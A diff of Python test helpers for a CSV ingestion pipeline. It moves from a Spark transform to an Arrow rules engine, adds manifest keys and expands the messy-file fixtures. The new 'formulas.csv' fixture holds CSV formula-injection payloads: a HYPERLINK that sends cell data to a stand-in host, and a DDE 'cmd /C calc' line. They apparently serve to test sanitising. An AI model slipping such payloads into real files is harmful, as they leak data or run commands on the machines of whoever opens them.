@@ -1,4 +1,4 @@
-"""Test helpers: small DataFrames for the transform, and manifests + staged files for whole runs."""
+"""Test helpers: the rules on a few rows, and manifests + staged files for whole runs."""
 
 from __future__ import annotations
 
@@ -8,44 +8,27 @@ import json
 from decimal import Decimal
 from pathlib import Path
 
+import pyarrow as pa
+
+import rules
 import storage
-import transform
 from contract import parse_manifest
 
 REPO = Path(__file__).resolve().parents[2]
 FIXTURES = Path(__file__).resolve().parent / "fixtures"
 VECTORS = REPO / "packages" / "core" / "src" / "manifest" / "examples"
 PROCESSING_DATE = "2026-04-01T10:00:30.000Z"
-RAW_SCHEMA = (
-    "source_file string, line_number long, id string, name string, email string, date string, amount string,"
-    " status string"
-)
 
 
-def rows_df(spark, rows, source_file="input/test.csv"):
-    """rows: (id, name, email, date, amount, status) raw strings or None; line numbers count from 2."""
-    return spark.createDataFrame([(source_file, i + 2, *r) for i, r in enumerate(rows)], RAW_SCHEMA)
-
-
-def run_transform(spark, rows, source_file="input/test.csv", **kwargs):
-    """The transform's rows as dicts, in line order."""
-    out = transform.transform(rows_df(spark, rows, source_file), PROCESSING_DATE, **kwargs)
-    return [r.asDict() for r in out.orderBy(transform.LINE_NUMBER).collect()]
-
-
-def run_arrow_rules(rows, source_file="input/test.csv", date_formats=transform.DEFAULT_DATE_FORMATS):
-    """The Arrow engine's rows for the same input as `run_transform`, in the same shape (running totals as Decimal)."""
-    import pyarrow as pa
-
-    import arrow_rules
-
-    raw = {c: pa.array([r[i] for r in rows], pa.string()) for i, c in enumerate(transform.REQUIRED_COLUMNS)}
+def run_rules(rows, source_file="input/test.csv", date_formats=rules.DEFAULT_DATE_FORMATS):
+    """rules.process on rows of (id, name, email, date, amount, status) raw strings or None (line numbers from 2):
+    the processed rows as dicts in line order, amounts and running totals as Decimal."""
+    raw = {c: pa.array([r[i] for r in rows], pa.string()) for i, c in enumerate(rules.REQUIRED_COLUMNS)}
     lines = pa.array(range(2, len(rows) + 2), pa.int64())
-    table = arrow_rules.process(raw, lines, source_file, PROCESSING_DATE, date_formats).table
-    out = table.to_pylist()
+    out = rules.process(raw, lines, source_file, PROCESSING_DATE, date_formats).table.to_pylist()
     for r in out:
-        total = r["running_total_by_status"]
-        r["running_total_by_status"] = None if total is None else Decimal(total)
+        for c in ("amount", "running_total_by_status"):
+            r[c] = None if r[c] is None else Decimal(r[c])
     return out
 
 
@@ -72,7 +55,8 @@ def stage_run(tmp_path: Path, files: dict[str, bytes], run_key: str = "RUN1") ->
                 "lastModified": "2026-04-01T09:00:00.000Z",
                 "size": len(data),
                 "outputPrefix": f"processed/{stem}/v=T{i}/",
-                "rejectedPrefix": f"processed/rejected/{stem}/v=T{i}/",
+                "rejectedPrefix": f"rejected/{stem}/v=T{i}/",
+                "parquetPrefix": f"parquet/ingest_date=2026-04-01/{stem}/v=T{i}/",
             }
         )
     doc = {
@@ -80,7 +64,8 @@ def stage_run(tmp_path: Path, files: dict[str, bytes], run_key: str = "RUN1") ->
         "runKey": run_key,
         "createdAt": "2026-04-01T10:00:00.000Z",
         "bucket": "bucket",
-        "statsKey": f"processed/stats/{run_key}.json",
+        "statsKey": f"stats/runs/{run_key}.json",
+        "fileStatsKey": f"stats/files/ingest_date=2026-04-01/{run_key}.jsonl",
         "uploads": uploads,
     }
     manifest_path = tmp_path / "manifest.json"
@@ -109,19 +94,6 @@ def output_text(folder: Path) -> str:
     return parts[0].read_text(encoding="utf-8")
 
 
-def assert_frames_equal(actual, expected):
-    """Whole-DataFrame equality: same column names and types, same rows (order-insensitive, duplicates kept).
-
-    (pyspark.testing.assertDataFrameEqual needs pandas, which the project venv does not carry.)
-    """
-    assert [(f.name, f.dataType) for f in actual.schema] == [(f.name, f.dataType) for f in expected.schema]
-
-    def key(r):
-        return [(v is None, str(v)) for v in r]
-
-    assert sorted(actual.collect(), key=key) == sorted(expected.collect(), key=key)
-
-
 HEADER = b"id,name,email,date,amount,status\n"
 # Messy uploads of one run (see test_messy_files.py for what each must become).
 MESSY_FILES = {
@@ -141,12 +113,25 @@ MESSY_FILES = {
     "missing_col.csv": b"id,name,email,date,status\n1,A,a@example.com,01-04-2025,active\n",
     "empty.csv": b"",
     "header_only.csv": HEADER,
-    "latin1.csv": HEADER + b"1,Ren\xe9 Dupont,r@example.com,01-04-2025,10,active\n",
+    "latin1.csv": HEADER
+    + b"1,Ren\xe9 Dupont,r@example.com,01-04-2025,10,active\n"
+    + b"2,Ann Lee,a@example.com,01-04-2025,10,active\n",
     "binary.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
     "reordered.csv": b"Status, Amount ,extra,ID,date,email,name\nactive,5,x,9,01-04-2025,r@example.com,reo rdr\n",
+    "multiline.csv": HEADER
+    + b'1,"Ann\nLee",a@example.com,01-04-2025,10,active\n'
+    + b'2,"Bob ""B""\r\nKing",b@example.com,01-04-2025,"1,000",active\n'
+    + b'3,"stray quote,c@example.com,01-04-2025,10,active\n'
+    + b"4,Cy Dee,c@example.com,01-04-2025,10,active\n",
+    "formulas.csv": HEADER
+    + b'=HYPERLINK("http://x.example/?a"&A1;"click"),@SUM(1+1),+cmd@example.com,01-04-2025,-12.5,=1+1\n'
+    + b"-2+3,ann,a@example.com,01-04-2025,10,active\n"
+    + b"=cmd|' /C calc'!A0,x\n",
     "dups.csv": HEADER
     + b"1,A,a@example.com,01-04-2025,10,active\n"
     + b"1,A,a@example.com,01-04-2025,10,active\n"
     + b"2,B,b@example.com,01-04-2025,20,active\n"
-    + b"2,B2,b@example.com,01-04-2025,20,active\n",
+    + b"2,B2,b@example.com,01-04-2025,20,active\n"
+    + b"3, C ,c@example.com,2025-04-01,30.00,ACTIVE\n"
+    + b"3,C,c@example.com,01-04-2025,30,active\n",
 }
